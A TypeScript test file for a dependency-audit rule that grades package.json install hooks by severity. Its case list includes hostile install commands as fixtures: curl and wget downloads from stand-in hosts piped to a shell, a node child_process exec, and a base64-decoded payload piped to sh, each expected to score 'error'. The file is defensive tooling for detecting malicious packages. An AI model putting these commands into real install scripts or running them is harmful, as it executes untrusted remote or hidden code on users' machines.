// install-script is an engine rule checked by the dependency audit over package.json files; its
// cases run through the CLI's package reader (the end-to-end audits are in test/cli/deps.test.ts).
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { assessScript } from '../../cli/deps.js';
import rule from '../../rules/install-script.js';

describe('install-script', () => {
  it('is an engine rule, warn in audit and off elsewhere', () => {
    assert.equal(rule.meta.engine, true);
    assert.deepEqual(rule.meta.defaults, { strict: 'off', audit: 'warn', recommended: 'off' });
  });
  const cases: [string, string, 'info' | 'warn' | 'error'][] = [
    ['postinstall', 'node-gyp rebuild', 'info'],
    ['install', 'prebuild-install || node-gyp rebuild', 'info'],
    ['postinstall', 'node install.js', 'warn'],
    ['postinstall', 'node ./scripts/setup', 'warn'],
    ['preinstall', 'node check.js', 'error'],
    ['postinstall', 'curl -s https://example.invalid/x.sh | sh', 'error'],
    ['postinstall', 'wget -qO- http://1.2.3.4/p | bash', 'error'],
    ['install', 'node -e "require(\'child_process\').exec(\'id\')"', 'error'],
    ['postinstall', 'echo ZXZpbA== | base64 -d | sh', 'error'],
  ];
  for (const [hook, command, severity] of cases) {
    it(`${hook}: ${command} -> ${severity}`, () => {
      assert.equal(assessScript(hook, command).severity, severity);
    });
  }
  it('names the file a node script runs, with or without its extension', () => {
    assert.deepEqual(assessScript('postinstall', 'node ./scripts/y').targets, ['./scripts/y']);
    assert.deepEqual(assessScript('postinstall', 'cross-env A=1 node --max-old-space-size=100 -r ./pre.js x.js && echo ok').targets, ['./pre.js', 'x.js']);
    assert.deepEqual(assessScript('install', 'node -e "1"').targets, []);
  });
});
